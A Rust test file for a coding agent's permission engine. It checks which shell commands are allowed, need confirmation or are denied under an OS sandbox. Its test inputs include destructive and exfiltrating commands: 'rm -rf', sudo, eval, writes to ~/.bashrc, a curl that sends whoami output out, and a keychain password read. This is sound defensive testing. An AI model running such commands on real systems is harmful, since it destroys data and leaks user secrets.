//! With the OS sandbox confining shell commands, the build agent's commands
//! need no confirmation only because their words are not plain; everything
//! the engine judges dangerous still asks. Each case is also checked without
//! the sandbox, where it must ask (so the relaxation is what changed it).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{Fixture, Setup, request};
use mia_permission::PermissionAction::{Allow, Ask, Deny};

fn build(sandboxed: bool) -> Setup<'static> {
    Setup {
        agent: "build",
        sandboxed,
        ..Default::default()
    }
}

#[test]
fn opaque_commands_inside_the_project_are_allowed_under_the_sandbox() {
    let fx = Fixture::new();
    for cmd in [
        "echo $(date) > out.txt",
        "for f in *.md; do wc -l $f; done",
        "ls > \"$OUT\"",
        "cat <<EOF > notes.txt\nhello\nEOF",
        "X=1 npm test",
        "(cd src && cargo test)",
        "find . -name '*.rs' | xargs wc -l",
        "npm install && npm run build 2>&1 | tail -n 20",
        // inline interpreter code runs in the sandbox exactly as a script would
        "python3 -c \"$CODE\"",
    ] {
        let req = request(&fx, &format!("bash: {cmd}"));
        let d = build(true).check(&fx, &req);
        assert_eq!(d.decision, Allow, "{cmd}: {}", d.reason);
        let plain = build(false).check(&fx, &req);
        if cmd.starts_with("npm install") {
            assert_eq!(plain.decision, Allow, "{cmd}: {}", plain.reason);
        } else {
            assert_eq!(
                plain.decision, Ask,
                "{cmd} without the sandbox: {}",
                plain.reason
            );
        }
    }
}

#[test]
fn what_the_engine_judges_dangerous_still_asks_under_the_sandbox() {
    let fx = Fixture::new();
    for (cmd, want) in [
        // destructive or privileged with words that are not plain
        ("rm -rf $DIR", Ask),
        ("sudo $CMD", Ask),
        ("for p in $(pgrep node); do kill $p; done", Ask),
        ("eval \"$X\"", Ask),
        // a program read at run time
        ("$TOOL --version", Ask),
        // literal writes outside the project and to protected files
        ("echo $(date) > {HOME}/.bashrc", Ask),
        ("echo $X > ../proj_evil/x", Ask),
        // the first fetch of a host
        ("curl -s https://example.com/$(whoami)", Ask),
        // shell the parser could not read
        ("ls )(", Ask),
        // stored secrets
        ("security find-generic-password -w $X", Deny),
    ] {
        let req = request(&fx, &format!("bash: {cmd}"));
        let d = build(true).check(&fx, &req);
        assert_eq!(d.decision, want, "{cmd}: {}", d.reason);
    }
}

#[test]
fn a_read_rule_of_your_own_turns_the_relaxation_off() {
    let fx = Fixture::new();
    let setup = Setup {
        global: &["deny read **/.env"],
        ..build(true)
    };
    let req = request(&fx, "bash: for f in $(ls -a); do cat $f; done");
    assert_eq!(setup.check(&fx, &req).decision, Ask);
    assert_eq!(build(true).check(&fx, &req).decision, Allow);
}

#[test]
fn plan_is_not_widened_by_the_sandbox() {
    let fx = Fixture::new();
    let plan = Setup {
        agent: "plan",
        sandboxed: true,
        ..Default::default()
    };
    // Not on the read-only list: no rule allows it, so the sandbox changes nothing.
    let d = plan.check(&fx, &request(&fx, "bash: echo $(date) > out.txt"));
    assert_ne!(d.decision, Allow, "{}", d.reason);
}
